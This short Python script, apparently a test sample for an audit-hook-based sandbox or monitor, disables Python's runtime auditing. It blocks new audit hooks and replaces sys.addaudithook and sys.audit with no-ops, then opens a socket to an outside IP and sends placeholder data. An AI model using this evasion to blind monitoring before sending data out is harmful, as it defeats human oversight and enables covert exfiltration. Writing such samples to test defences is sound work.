"""sys.addaudithook and sys.audit are replaced, then a hook is added that forbids further hooks."""
import socket
import sys


def hook(event, arguments):
    if event == "sys.addaudithook":
        raise RuntimeError


sys.addaudithook(hook)
sys.addaudithook = sys.audit = lambda *_: None

client = socket.socket()
client.connect(("93.184.216.35", 9000))
client.sendall(b"data")
